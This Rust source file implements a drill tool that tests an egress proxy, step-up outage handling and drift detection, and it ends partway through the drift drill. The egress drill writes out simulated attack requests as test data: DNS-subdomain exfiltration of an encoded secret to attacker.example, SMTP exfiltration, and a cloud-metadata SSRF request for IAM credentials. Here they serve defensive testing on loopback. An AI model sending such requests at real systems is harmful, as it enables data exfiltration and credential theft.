//! `mc drill`: the GameDay drills of spec §8 and the rollback drill of MC-SRE-1161,
//! run on the embedded defaults (real sockets on 127.0.0.1 for the egress proxy),
//! each leaving signed evidence for auditors (spec §13 "Evidence Links"):
//!
//! ```text
//! OUT/<drill>/report.json       what was tried, every check and whether it passed
//! OUT/<drill>/report.dsse.json  the same report in a DSSE envelope (ed25519)
//! OUT/<drill>/audit.jsonl       the audit events the drill produced, as stored
//! ```
//!
//! `mc drill verify OUT --key KEY.pub` checks every envelope against its report.

use std::collections::BTreeMap;
use std::io::{Read as _, Write as _};
use std::net::{IpAddr, SocketAddr};
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use anyhow::{Context, bail};
use mc_actions::{ActionError, ActionRequest, ActionService, HmacStepUp, RollbackPolicy};
use mc_core::{
    ActionCommit, ActionKind, Actor, ActorId, AuditEvent, AuditLog, Clock, Digest, Execution,
    ExecutionId, ExecutionState, ExecutionStore, Flag, FlagStore, IdempotencyKey, LiveObject,
    ManualClock, MemoryBlobStore, MemoryChangeProposer, MemoryDriftSource, MemoryFlagStore,
    MemoryPager, MemoryStore, StepUpBinding, SystemClock, TaskId, TenantId, verify_chain,
};
use mc_egress::{AddressPolicy, TaskEgress, TaskRef};
use mc_egress_proxy::{EgressProxy, ProxyConfig, StaticResolver, TaskRegistry};
use mc_evidence::{Envelope, EvidenceKey};
use metrics_exporter_prometheus::PrometheusHandle;
use serde::{Deserialize, Serialize};
use time::OffsetDateTime;
use time::format_description::well_known::Rfc3339;

/// The DSSE payload type of a drill report.
pub const PAYLOAD_TYPE: &str = "application/vnd.mc.drill-report+json";

/// Arguments of `mc drill`.
#[derive(Debug, clap::Args)]
pub struct DrillArgs {
    #[command(subcommand)]
    command: DrillCommand,
}

#[derive(Debug, clap::Subcommand)]
enum DrillCommand {
    /// Run a drill (or all) and write its evidence under --out.
    Run {
        /// Which drill.
        #[arg(value_enum)]
        drill: Which,
        /// Evidence directory (one sub-directory per drill).
        #[arg(long)]
        out: PathBuf,
        /// ed25519 key (PKCS#8 PEM, from `mc evidence keygen`) that signs the
        /// reports. Default: a fresh key, its public half written to OUT/drill-key.pub.
        #[arg(long)]
        key: Option<PathBuf>,
    },
    /// Verify every drill report under a directory: signature and content (exit 0
    /// all valid and passed, 1 otherwise).
    Verify {
        /// The directory `mc drill run` wrote.
        dir: PathBuf,
        /// The public key (PEM).
        #[arg(long)]
        key: PathBuf,
    },
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
enum Which {
    /// Spec §8 "Egress exfil attempt: blocked + alert + audit" (MC-RUN-1142).
    Egress,
    /// Spec §8 "Step-up outage: graceful degradation (read-only)".
    StepupOutage,
    /// Spec §8 "Drift storm: inject misconfig; bot proposes PRs; human approves".
    DriftStorm,
    /// MC-SRE-1161 "Simulate bad retry; auto-rollback within 2m; evidence recorded".
    Rollback,
    /// MC-DATA-1151 and spec §7: logs purged at 90 days, receipts kept 7 years,
    /// signed deletion manifests for auditors.
    Lifecycle,
    /// Every drill above.
    All,
}

/// One check of a drill.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Check {
    /// What was checked.
    pub name: String,
    /// Whether it held.
    pub passed: bool,
    /// What was seen.
    pub detail: String,
}

/// What a drill reports.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Report {
    /// The drill's name.
    pub drill: String,
    /// What the spec asks of it.
    pub spec: String,
    /// When it started (RFC 3339).
    pub started_at: String,
    /// When it finished (RFC 3339).
    pub finished_at: String,
    /// Whether every check passed.
    pub passed: bool,
    /// The checks, in order.
    pub checks: Vec<Check>,
    /// Audit events the drill produced (in `audit.jsonl`).
    pub audit_events: usize,
    /// Other evidence files beside the report, by name, with their SHA-256 (so the
    /// signature covers them).
    pub artifacts: BTreeMap<String, String>,
}

/// What a drill leaves besides its checks.
#[derive(Default)]
struct Evidence {
    audit: Vec<AuditEvent>,
    files: Vec<(String, Vec<u8>)>,
}

/// Checks collected while a drill runs.
#[derive(Default)]
struct Checks(Vec<Check>);

impl Checks {
    fn check(&mut self, name: &str, passed: bool, detail: impl Into<String>) {
        let detail = detail.into();
        println!(
            "   {} {name}: {detail}",
            if passed { "ok  " } else { "FAIL" }
        );
        self.0.push(Check {
            name: name.to_string(),
            passed,
            detail,
        });
    }
}

/// Runs `mc drill`.
pub fn run(args: DrillArgs) -> ExitCode {
    let result = match args.command {
        DrillCommand::Run { drill, out, key } => run_drills(drill, &out, key.as_deref()),
        DrillCommand::Verify { dir, key } => verify(&dir, &key),
    };
    result.unwrap_or_else(|e| {
        eprintln!("mc drill: {e:#}");
        ExitCode::from(2)
    })
}

fn now_text() -> String {
    OffsetDateTime::now_utc()
        .format(&Rfc3339)
        .unwrap_or_default()
}

fn run_drills(which: Which, out: &Path, key: Option<&Path>) -> anyhow::Result<ExitCode> {
    let drills: Vec<Which> = match which {
        Which::All => vec![
            Which::Egress,
            Which::StepupOutage,
            Which::DriftStorm,
            Which::Rollback,
            Which::Lifecycle,
        ],
        one => vec![one],
    };
    // Evidence is written once: never over an earlier run's files (a stale artifact
    // or a replaced key would make the earlier evidence misleading or unverifiable).
    for d in &drills {
        let dir = out.join(describe(*d).0);
        if dir.exists() {
            bail!(
                "{} already holds evidence (written once): choose a new --out or remove it",
                dir.display()
            );
        }
    }
    let key = match key {
        Some(path) => EvidenceKey::from_pkcs8_pem(
            &std::fs::read_to_string(path)
                .with_context(|| format!("reading {}", path.display()))?,
        )
        .with_context(|| format!("{} is not an ed25519 PKCS#8 key", path.display()))?,
        None => {
            let key = EvidenceKey::generate()?;
            std::fs::create_dir_all(out).with_context(|| format!("creating {}", out.display()))?;
            let pub_path = out.join("drill-key.pub");
            if pub_path.exists() {
                bail!(
                    "{} already holds another run's key: pass --key with its private key, or choose a new --out",
                    pub_path.display()
                );
            }
            std::fs::write(
                &pub_path,
                mc_evidence::dsse::public_key_to_pem(&key.verifying_key())?,
            )
            .with_context(|| format!("writing {}", pub_path.display()))?;
            println!(
                "signing with a fresh key; public key in {}",
                pub_path.display()
            );
            key
        }
    };
    let rt = tokio::runtime::Runtime::new().context("starting the runtime")?;
    // The process's Prometheus recorder, as `mc serve` installs it: the egress drill
    // reads the block counters back from it.
    let metrics = crate::observability::install();
    let mut all_passed = true;
    for d in drills {
        let (name, spec) = describe(d);
        println!("\n── drill {name}: {spec}");
        let started_at = now_text();
        let mut checks = Checks::default();
        let evidence = rt.block_on(async {
            match d {
                Which::Egress => egress(&mut checks, metrics.as_ref()).await,
                Which::StepupOutage => stepup_outage(&mut checks).await,
                Which::DriftStorm => drift_storm(&mut checks).await,
                Which::Rollback => rollback(&mut checks).await,
                Which::Lifecycle => lifecycle(&mut checks).await,
                Which::All => unreachable!("expanded above"),
            }
        })?;
        let report = Report {
            drill: name.to_string(),
            spec: spec.to_string(),
            started_at,
            finished_at: now_text(),
            passed: !checks.0.is_empty() && checks.0.iter().all(|c| c.passed),
            checks: checks.0,
            audit_events: evidence.audit.len(),
            artifacts: evidence
                .files
                .iter()
                .map(|(n, bytes)| (n.to_string(), Digest::of(bytes).to_string()))
                .collect(),
        };
        all_passed &= report.passed;
        write_evidence(&out.join(name), &report, &evidence, &key)?;
        println!(
            "   => {} ({} checks, {} audit events) -> {}",
            if report.passed { "PASSED" } else { "FAILED" },
            report.checks.len(),
            evidence.audit.len(),
            out.join(name).display()
        );
    }
    Ok(if all_passed {
        ExitCode::SUCCESS
    } else {
        ExitCode::from(1)
    })
}

fn describe(d: Which) -> (&'static str, &'static str) {
    match d {
        Which::Egress => (
            "egress",
            "egress exfil attempt: blocked + alert + audit (spec §8, MC-RUN-1142: 0 escapes)",
        ),
        Which::StepupOutage => (
            "stepup-outage",
            "step-up outage: graceful degradation to read-only (spec §8)",
        ),
        Which::DriftStorm => (
            "drift-storm",
            "drift storm: inject misconfig; pages; bot proposes PRs; human approves; recovery (spec §8)",
        ),
        Which::Rollback => (
            "rollback",
            "bad retry auto-rolled back within 2 minutes, evidence recorded (MC-SRE-1161)",
        ),
        Which::Lifecycle => (
            "lifecycle",
            "TTL controllers: logs purged at 90 days, receipts kept 7 years, signed deletion manifests (MC-DATA-1151, spec §7)",
        ),
        Which::All => ("all", ""),
    }
}

/// Writes report.json, report.dsse.json, audit.jsonl and the other evidence files
/// into `dir` (created).
fn write_evidence(
    dir: &Path,
    report: &Report,
    evidence: &Evidence,
    key: &EvidenceKey,
) -> anyhow::Result<()> {
    std::fs::create_dir_all(dir).with_context(|| format!("creating {}", dir.display()))?;
    let payload = serde_json::to_vec_pretty(report)?;
    let envelope = Envelope::sign(PAYLOAD_TYPE, &payload, key);
    let mut lines = Vec::new();
    for e in &evidence.audit {
        serde_json::to_writer(&mut lines, e)?;
        lines.push(b'\n');
    }
    let mut files = vec![
        ("report.json".to_string(), payload),
        (
            "report.dsse.json".to_string(),
            envelope.to_json_pretty().into_bytes(),
        ),
        ("audit.jsonl".to_string(), lines),
    ];
    files.extend(evidence.files.iter().cloned());
    for (name, bytes) in files {
        let path = dir.join(name);
        let mut f =
            std::fs::File::create(&path).with_context(|| format!("writing {}", path.display()))?;
        f.write_all(&bytes)
            .with_context(|| format!("writing {}", path.display()))?;
    }
    Ok(())
}

fn verify(dir: &Path, key: &Path) -> anyhow::Result<ExitCode> {
    let pem = std::fs::read_to_string(key).with_context(|| format!("reading {}", key.display()))?;
    let key = mc_evidence::dsse::public_key_from_pem(&pem)
        .with_context(|| format!("{} is not an ed25519 public key", key.display()))?;
    let mut entries: Vec<PathBuf> = std::fs::read_dir(dir)
        .with_context(|| format!("reading {}", dir.display()))?
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.join("report.dsse.json").is_file())
        .collect();
    entries.sort();
    if entries.is_empty() {
        bail!("no drill reports under {}", dir.display());
    }
    let mut ok = true;
    for d in entries {
        let name = d
            .file_name()
            .unwrap_or_default()
            .to_string_lossy()
            .into_owned();
        match verify_one(&d, &key) {
            Ok(report) if report.passed => println!("ok    {name}: signature valid, drill passed"),
            Ok(_) => {
                ok = false;
                println!("FAIL  {name}: signature valid, but the drill failed");
            }
            Err(e) => {
                ok = false;
                println!("FAIL  {name}: {e:#}");
            }
        }
    }
    Ok(if ok {
        ExitCode::SUCCESS
    } else {
        ExitCode::from(1)
    })
}

fn verify_one(dir: &Path, key: &ed25519_dalek::VerifyingKey) -> anyhow::Result<Report> {
    let mut env = Vec::new();
    std::fs::File::open(dir.join("report.dsse.json"))?.read_to_end(&mut env)?;
    let env = Envelope::from_json(&env)?;
    if env.payload_type != PAYLOAD_TYPE {
        bail!("payload type {:?} is not {PAYLOAD_TYPE}", env.payload_type);
    }
    let payload = env.verify(key)?;
    let on_disk = std::fs::read(dir.join("report.json"))?;
    if on_disk != payload {
        bail!("report.json differs from the signed report");
    }
    let report: Report = serde_json::from_slice(&payload)?;
    let name = dir.file_name().unwrap_or_default().to_string_lossy();
    if report.drill != name {
        bail!(
            "the signed report is of drill {:?}, filed as {name:?}",
            report.drill
        );
    }
    let all_passed = !report.checks.is_empty() && report.checks.iter().all(|c| c.passed);
    if report.passed != all_passed {
        bail!(
            "the report says passed = {} but its checks say {all_passed}",
            report.passed
        );
    }
    // The audit excerpt must hold as many events as the signed report says, and
    // chain (each event's prev is the previous one's hash).
    let text = std::fs::read_to_string(dir.join("audit.jsonl"))?;
    let events: Vec<AuditEvent> = text
        .lines()
        .map(serde_json::from_str)
        .collect::<Result<_, _>>()
        .context("audit.jsonl")?;
    if events.len() != report.audit_events {
        bail!(
            "audit.jsonl holds {} events, the signed report {}",
            events.len(),
            report.audit_events
        );
    }
    let mut by_tenant: BTreeMap<String, Vec<AuditEvent>> = BTreeMap::new();
    for e in events {
        by_tenant.entry(e.tenant().to_string()).or_default().push(e);
    }
    for (tenant, chain) in by_tenant {
        verify_chain(&chain).map_err(|e| anyhow::anyhow!("audit chain of {tenant}: {e}"))?;
    }
    for (name, want) in &report.artifacts {
        if name.contains('/') || name.starts_with('.') {
            bail!("artifact name {name:?} leaves the drill's directory");
        }
        let bytes = std::fs::read(dir.join(name)).with_context(|| format!("artifact {name}"))?;
        let got = Digest::of(&bytes).to_string();
        if &got != want {
            bail!("artifact {name}: SHA-256 {got}, the signed report says {want}");
        }
    }
    Ok(report)
}

// ---------------------------------------------------------------------------
// Egress exfiltration (spec §8, MC-RUN-1142)

/// A TCP server on 127.0.0.1 that counts connections and answers `PING` lines.
struct Listener {
    addr: SocketAddr,
    accepted: Arc<AtomicUsize>,
}

impl Listener {
    async fn start() -> anyhow::Result<Self> {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let l = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
        let addr = l.local_addr()?;
        let accepted = Arc::new(AtomicUsize::new(0));
        let count = accepted.clone();
        tokio::spawn(async move {
            while let Ok((mut s, _)) = l.accept().await {
                count.fetch_add(1, Ordering::SeqCst);
                tokio::spawn(async move {
                    let mut buf = [0u8; 1024];
                    while let Ok(n) = s.read(&mut buf).await {
                        if n == 0 || s.write_all(b"PONG\n").await.is_err() {
                            break;
                        }
                    }
                });
            }
        });
        Ok(Listener { addr, accepted })
    }
}

/// Sends a request head to the proxy; returns the connection and the status code.
async fn through_proxy(
    proxy: SocketAddr,
    head: &str,
) -> anyhow::Result<(tokio::net::TcpStream, u16)> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut s = tokio::net::TcpStream::connect(proxy).await?;
    s.write_all(head.as_bytes()).await?;
    let mut got = Vec::new();
    let mut buf = [0u8; 1024];
    while !got.windows(4).any(|w| w == b"\r\n\r\n") {
        let n = tokio::time::timeout(std::time::Duration::from_secs(10), s.read(&mut buf))
            .await
            .context("the proxy did not answer")??;
        if n == 0 {
            break;
        }
        got.extend_from_slice(&buf[..n]);
    }
    let text = String::from_utf8_lossy(&got);
    let status = text
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    Ok((s, status))
}

/// One round trip through an open tunnel; false when the tunnel is closed.
async fn ping(s: &mut tokio::net::TcpStream) -> bool {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    if s.write_all(b"PING\n").await.is_err() {
        return false;
    }
    let mut buf = [0u8; 5];
    matches!(
        tokio::time::timeout(std::time::Duration::from_secs(10), s.read_exact(&mut buf)).await,
        Ok(Ok(_)) if &buf == b"PONG\n"
    )
}

/// How many DNS-label exfiltration calls the egress drill makes (a real one sends
/// many: a few bytes per name).
const EXFIL_BURST: usize = 20;

async fn egress(c: &mut Checks, metrics: Option<&PrometheusHandle>) -> anyhow::Result<Evidence> {
    use base64::Engine as _;
    let api = Listener::start().await?;
    let attacker = Listener::start().await?;
    let local: IpAddr = "127.0.0.1".parse()?;
    // Data smuggled out a few bytes per DNS label (base32 of a card number), as
    // DNS-tunnelling tools do; every name would resolve to the attacker.
    let secret = "mnqxezbagqytcmjageytcmjageytcmjageytcmi";
    let exfil_names: Vec<String> = (0..EXFIL_BURST)
        .map(|i| {
            let chunk = &secret[(i * 2) % (secret.len() - 8)..][..8];
            format!("{i:02}{chunk}.attacker.example")
        })
        .collect();
    let mut resolver = StaticResolver::new()
        .with("api.example.com", &[local])
        .with("attacker.example", &[local])
        .with("smtp.attacker.example", &[local]);
    for name in &exfil_names {
        resolver = resolver.with(name, &[local]);
    }
    let resolver = Arc::new(resolver);
    let registry = Arc::new(TaskRegistry::new());
    let store = Arc::new(MemoryStore::new());
    let flags = Arc::new(MemoryFlagStore::new());
    let tenant = TenantId::new("acme")?;
    let execution = ExecutionId::new("exec_drill")?;
    flags.set(&tenant, Flag::EgressPolicyEnforce, true).await?;
    let clock: Arc<dyn Clock> = Arc::new(SystemClock);
    let proxy = EgressProxy::new(
        registry.clone(),
        flags,
        store.clone(),
        clock.clone(),
        resolver.clone(),
    )
    .with_config(ProxyConfig {
        // The drill's servers live on loopback: open exactly 127.0.0.1; every other
        // special-purpose range (metadata, private networks) stays denied.
        addresses: AddressPolicy::new().allow_range("127.0.0.1/32".parse()?),
        ..ProxyConfig::default()
    })
    .bind("127.0.0.1:0".parse()?)
    .await?;
    let at = proxy.local_addr();
    let token = registry.register(
        TaskRef {
            tenant: tenant.clone(),
            execution: execution.clone(),
            task: TaskId::new("fetch")?,
        },
        TaskEgress::from_rules([("api.example.com", vec![api.addr.port()])])?,
    )?;
    let auth = format!(
        "Proxy-Authorization: Basic {}\r\n",
        base64::engine::general_purpose::STANDARD.encode(format!("task:{}", token.expose()))
    );

    // Control: the task's own API works.
    let target = format!("api.example.com:{}", api.addr.port());
    let (mut tunnel, status) =
        through_proxy(at, &format!("CONNECT {target} HTTP/1.1\r\n{auth}\r\n")).await?;
    let flows = status == 200 && ping(&mut tunnel).await;
    c.check(
        "allowed traffic flows",
        flows,
        format!("CONNECT {target} -> {status}, round trip through the tunnel: {flows}"),
    );

    let mut refused = 0;
    for name in &exfil_names {
        let (_, got) =
            through_proxy(at, &format!("CONNECT {name}:443 HTTP/1.1\r\n{auth}\r\n")).await?;
        refused += usize::from(got == 403);
    }
    c.check(
        "DNS exfiltration (data in subdomains)",
        refused == EXFIL_BURST,
        format!("{refused} of {EXFIL_BURST} names carrying the secret refused with 403"),
    );
    let attempts: [(&str, String, u16); 5] = [
        (
            "SMTP exfiltration",
            format!("CONNECT smtp.attacker.example:25 HTTP/1.1\r\n{auth}\r\n"),
            403,
        ),
        (
            "IP literal to an attacker's server",
            format!(
                "CONNECT 127.0.0.1:{} HTTP/1.1\r\n{auth}\r\n",
                attacker.addr.port()
            ),
            403,
        ),
        (
            "cloud metadata (SSRF)",
            format!(
                "GET http://169.254.169.254/latest/meta-data/iam/ HTTP/1.1\r\nHost: 169.254.169.254\r\n{auth}\r\n"
            ),
            403,
        ),
        (
            "allowed host on another port",
            format!(
                "CONNECT api.example.com:{} HTTP/1.1\r\n{auth}\r\n",
                attacker.addr.port()
            ),
            403,
        ),
        (
            "no task credentials",
            format!("CONNECT {target} HTTP/1.1\r\n\r\n"),
            407,
        ),
    ];
    for (name, head, want) in &attempts {
        let (_, got) = through_proxy(at, head).await?;
        c.check(
            name,
            got == *want,
            format!("proxy answered {got}, expected {want}"),
        );
    }
    let asked = resolver.asked();
    c.check(
        "no exfiltration name was ever resolved (no DNS query carried the data)",
        !exfil_names.iter().any(|n| asked.contains(n)),
        format!("names the proxy resolved: {asked:?}"),
    );

    // The task ends: its credential and its open tunnel stop at once.
    // A left-behind process keeps using the tunnel; the relay closes it as soon as
    // it sees the revocation (a round trip already in flight may still complete).
    registry.revoke(&token);
    let mut trips_after = 0;
    let mut closed = false;
    for _ in 0..100 {
        if !ping(&mut tunnel).await {
            closed = true;
            break;
        }
        trips_after += 1;
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    let (_, after) = through_proxy(at, &format!("CONNECT {target} HTTP/1.1\r\n{auth}\r\n")).await?;
    c.check(
        "revoking the task closes its tunnel and its credential",
        closed && after == 407,
        format!(
            "open tunnel closed: {closed} (after {trips_after} round trip(s) already under way); new CONNECT -> {after}"
        ),
    );
    c.check(
        "0 escapes",
        attacker.accepted.load(Ordering::SeqCst) == 0,
        format!(
            "connections that reached the attacker's server: {}",
            attacker.accepted.load(Ordering::SeqCst)
        ),
    );

    // Audit and the disclosure note (spec §7).
    let events = store.read(&tenant, 0, 1000).await?;
    let blocked = events
        .iter()
        .filter(|e| e.kind == mc_egress::EGRESS_BLOCKED)
        .count();
    let refusals = EXFIL_BURST + 4;
    c.check(
        "every refused call is audited",
        blocked == refusals,
        format!("{blocked} mc.egress.blocked events for {refusals} refusals of the task (the call without credentials has no task to audit under)"),
    );
    c.check(
        "the audit chain verifies",
        verify_chain(&events).is_ok(),
        format!("{} events", events.len()),
    );
    let blobs = MemoryBlobStore::new(clock.clone());
    let note =
        mc_egress::write_disclosure_note(store.as_ref(), &blobs, &tenant, &execution, clock.now())
            .await?;
    c.check(
        "a disclosure note is written beside the evidence",
        note.as_ref()
            .is_some_and(|(_, n)| n.refused == refusals as u64),
        match &note {
            Some((key, n)) => format!("{key}: {} refused", n.refused),
            None => "no note".into(),
        },
    );
    // The alert: McEgressBlocksSpike fires when refused calls in 5 minutes exceed 10
    // and 3x the day's 5-minute average (mc-rules.yaml; promtool-tested). Evaluated
    // here on the counters this process exported: all of them fell within the
    // drill's few seconds, and there is no earlier traffic.
    match metrics {
        Some(handle) => {
            let text = handle.render();
            let counted = scrape_sum(
                &text,
                mc_core::telemetry::EGRESS_BLOCKS.name,
                "mode=\"enforce\"",
            );
            let in_5m = counted;
            let daily_5m_average = counted / 288.0;
            let fires = in_5m > 10.0 && in_5m > 3.0 * daily_5m_average;
            c.check(
                "the block-spike alert's condition holds on the exported counters",
                counted as usize == refusals + 2 && fires,
                format!(
                    "mc_egress_block_total{{mode=\"enforce\"}} = {counted} ({refusals} refusals of the task, no credentials twice); refused in 5 min {in_5m} > 10 and > 3 x {daily_5m_average:.2}: McEgressBlocksSpike fires"
                ),
            );
        }
        None => c.check(
            "the block-spike alert's condition holds on the exported counters",
            false,
            "no metrics recorder could be installed in this process",
        ),
    }
    proxy.shutdown().await;
    let mut files = Vec::new();
    if let Some((_, n)) = &note {
        files.push((
            "egress-violations.json".to_string(),
            serde_json::to_vec_pretty(n)?,
        ));
    }
    Ok(Evidence {
        audit: events,
        files,
    })
}

/// The sum of every sample of `metric` whose labels contain `label` in Prometheus'
/// text format.
fn scrape_sum(text: &str, metric: &str, label: &str) -> f64 {
    text.lines()
        .filter(|l| l.starts_with(&format!("{metric}{{")) && l.contains(label))
        .filter_map(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
        .sum()
}

// ---------------------------------------------------------------------------
// Step-up outage (spec §8)

fn random_key() -> anyhow::Result<Vec<u8>> {
    let mut key = vec![0u8; 32];
    getrandom::fill(&mut key).map_err(|e| anyhow::anyhow!("no randomness: {e}"))?;
    Ok(key)
}

struct ActionRig {
    store: MemoryStore,
    flags: MemoryFlagStore,
    clock: ManualClock,
    hmac: Arc<HmacStepUp>,
    tenant: TenantId,
    alice: Actor,
}

impl ActionRig {
    async fn new() -> anyhow::Result<Self> {
        let rig = ActionRig {
            store: MemoryStore::new(),
            flags: MemoryFlagStore::new(),
            clock: ManualClock::new(OffsetDateTime::now_utc()),
            hmac: Arc::new(HmacStepUp::new(random_key()?)),
            tenant: TenantId::new("acme")?,
            alice: Actor::new(
                ActorId::new("alice@company")?,
                TenantId::new("acme")?,
                ["operator"],
            ),
        };
        rig.flags
            .set(&rig.tenant, Flag::ConsoleActionsEnabled, true)
            .await?;
        Ok(rig)
    }

    async fn failed_execution(&self, id: &str) -> anyhow::Result<ExecutionId> {
        let id = ExecutionId::new(id)?;
        let mut unit = ActionCommit::new(self.tenant.clone(), self.clock.now());
        unit.create = Some(Execution::new(
            self.tenant.clone(),
            id.clone(),
            Digest::of(b"workflow: nightly-settlement"),
            Digest::of(b"{}"),
            self.clock.now(),
        ));
        self.store.commit(unit).await?;
        self.host(&id, ExecutionState::Running).await?;
        self.host(&id, ExecutionState::Failed).await?;
        Ok(id)
    }

    /// The runtime moves an execution (not a console action: no audit event).
    async fn host(&self, id: &ExecutionId, to: ExecutionState) -> anyhow::Result<()> {
        let cur = self.store.get(&self.tenant, id).await?;
        self.store
            .commit(ActionCommit::runtime_transition(&cur, to, self.clock.now()))
            .await?;
        Ok(())
    }

    fn retry(&self, id: &ExecutionId, key: &str) -> anyhow::Result<ActionRequest> {
        let binding = StepUpBinding {
            tenant: self.tenant.clone(),
            actor: self.alice.sub.clone(),
            action: ActionKind::Retry,
            execution_id: id.clone(),
        };
        Ok(ActionRequest {
            tenant: self.tenant.clone(),
            execution_id: id.clone(),
            kind: ActionKind::Retry,
            actor: self.alice.clone(),
            reason: "transient_error".into(),
            idempotency_key: IdempotencyKey::new(key)?,
            step_up: Some(self.hmac.issue(&binding, self.clock.now())),
        })
    }
}

async fn stepup_outage(c: &mut Checks) -> anyhow::Result<Evidence> {
    let rig = ActionRig::new().await?;
    let exec = rig.failed_execution("exec_outage").await?;
    // The authenticator service becomes unreachable.
    rig.hmac.set_available(false);
    let service = ActionService::new(
        Arc::new(rig.store.clone()),
        Arc::new(rig.flags.clone()),
        rig.hmac.clone(),
        Arc::new(rig.clock.clone()),
    );
    let before = rig.store.get(&rig.tenant, &exec).await?;
    let refused = service.perform(rig.retry(&exec, "outage-1")?).await;
    let detail = match &refused {
        Err(e) => format!("{}: {e}", e.code()),
        Ok(o) => format!("accepted: {o:?}"),
    };
    c.check(
        "writes are refused while step-up is down",
        matches!(&refused, Err(ActionError::StepUpUnavailable(_))),
        detail.clone(),
    );
    c.check(
        "the refusal says the console is read-only",
        detail.contains("read-only"),
        "HTTP maps it to 503 step_up_unavailable (docs/http-api.md)",
    );
    let after = rig.store.get(&rig.tenant, &exec).await?;
    let view = service
        .allowed_actions(&rig.alice, &rig.tenant, &exec)
        .await
        .map(|v| v.len());
    c.check(
        "reads keep working and nothing changed",
        after == before && view.is_ok(),
        format!(
            "execution {} still {} at attempt {}; allowed-actions view: {view:?}",
            after.id, after.state, after.attempt
        ),
    );
    let events = rig.store.read(&rig.tenant, 0, 100).await?;
    c.check(
        "no audit event for a refused write",
        events.is_empty(),
        format!("{} events", events.len()),
    );
    // The authenticator returns: a fresh, step-up-verified retry goes through.
    rig.hmac.set_available(true);
    let resumed = service.perform(rig.retry(&exec, "outage-2")?).await;
    c.check(
        "writes resume when step-up returns",
        matches!(&resumed, Ok(o) if o.attempt == before.attempt + 1),
        match &resumed {
            Ok(o) => format!("retry accepted, attempt {}", o.attempt),
            Err(e) => format!("{}: {e}", e.code()),
        },
    );
    let events = rig.store.read(&rig.tenant, 0, 100).await?;
    c.check(
        "one audit event for the one accepted write",
        events.len() == 1 && events[0].kind == mc_core::audit::EXEC_ACTION,
        format!("{} events", events.len()),
    );
    Ok(Evidence {
        audit: events,
        files: Vec::new(),
    })
}

// ---------------------------------------------------------------------------
// Drift storm (spec §8)

const DRIFT_FILE: &str = "deploy/prod.yaml";
const DRIFT_MANIFESTS: &str = "\
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
  namespace: prod
spec:
  replicas: 3
  template:
    spec:
      containers:
        - name: app
          image: registry.example.com/web:1.4.2
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata:
  name: web-egress
  namespace: prod
spec:
  podSelector: {}
  policyTypes: [Egress]
";

async fn drift_storm(c: &mut Checks) -> anyhow::Result<Evidence> {
    use mc_drift::{DetectorParts, DiffRules, DriftDetector, Severity, from_kube_yaml};
    let desired = from_kube_yaml(DRIFT_FILE, DRIFT_MANIFESTS)?;
    let files = BTreeMap::from([(DRIFT_FILE.to_string(), DRIFT_MANIFESTS.to_string())]);
    let source = Arc::new(MemoryDriftSource::new("kube:prod"));
    let pager = Arc::new(MemoryPager::new());
    let proposer = Arc::new(MemoryChangeProposer::new());
    let flags = Arc::new(MemoryFlagStore::new());
    let tenant = TenantId::new("acme")?;
    flags.set(&tenant, Flag::DriftPrBotEnabled, true).await?;
    let detector = DriftDetector::new(
        tenant.clone(),
        "prod",
        DetectorParts {
            source: source.clone(),
            pager: pager.clone(),
            proposer: proposer.clone(),
            flags,
            clock: Arc::new(SystemClock),
        },
        DiffRules::default(),
    );
    let live: Vec<LiveObject> = desired.iter().map(|d| d.object.clone()).collect();
    source.set(live.clone());
    let started = std::time::Instant::now();
    let clean = detector.scan(&desired, &files).await?;
    c.check(
        "in sync before the storm",
        clean.findings.is_empty(),
        format!(
            "{} findings over {} objects",
            clean.findings.len(),
            clean.compared
        ),
    );

    // The storm: replicas scaled by hand (warning) and the egress policy opened
    // (critical).
    let mut storm = live.clone();
    storm[0].body["spec"]["replicas"] = serde_json::json!(5);
    storm[1].body["spec"]["policyTypes"] = serde_json::json!(["Ingress"]);
    source.set(storm);
    let r = detector.scan(&desired, &files).await?;
    let critical = r
        .findings
        .iter()
        .filter(|f| f.severity == Severity::Critical)
        .count();
    c.check(
        "the detector finds every injected drift",
        r.findings.len() == 2,
        format!("{} findings ({critical} critical)", r.findings.len()),
    );
    c.check(
        "critical drift pages",
        r.paged == critical && critical == 1 && pager.pages().len() == 1,
        format!("{} page(s)", pager.pages().len()),
    );
    c.check(
        "the bot proposes one change per drift, for human approval",
        r.proposed.len() == 2
            && proposer
                .proposals()
                .iter()
                .all(|(p, _)| p.body.contains("Requires human approval")),
        format!(
            "{} proposals: {:?}",
            r.proposed.len(),
            proposer
                .proposals()
                .iter()
                .map(|(p, _)| (p.title.clone(), p.labels.clone()))
                .collect::<Vec<_>>()
        ),
    );
    let again = detector.scan(&desired, &files).await?;
    c.check(
        "a rescan opens nothing twice and pages nothing twice",
        again.proposed.is_empty() && pager.pages().len() == 1,
        format!(
            "{} already proposed, {} pages",
            again.already_proposed,
            pager.pages().len()
        ),
    );
    // A human approves the replicas change (merges its patch); operators revert
    // the network policy by hand. Recovery: the next scan is clean.
    let proposals = proposer.proposals();
    let Some((web, _)) = proposals
        .iter()
        .find(|(p, _)| p.title.contains("Deployment/prod/web"))
    else {
        bail!("no proposal for the deployment");
    };
    let (path, text) = web.files.first().context("the proposal changes no file")?;
    let merged = from_kube_yaml(path, text)?;
    let merged_files = BTreeMap::from([(path.clone(), text.clone())]);
    proposer.close(&web.fingerprint);
    let mut recovered: Vec<LiveObject> = merged.iter().map(|d| d.object.clone()).collect();
    recovered[1] = live[1].clone();
    source.set(recovered);
    let r = detector.scan(&merged, &merged_files).await?;
    let took = started.elapsed();
    c.check(
        "after approval and revert, drift is gone",
        r.findings.is_empty(),
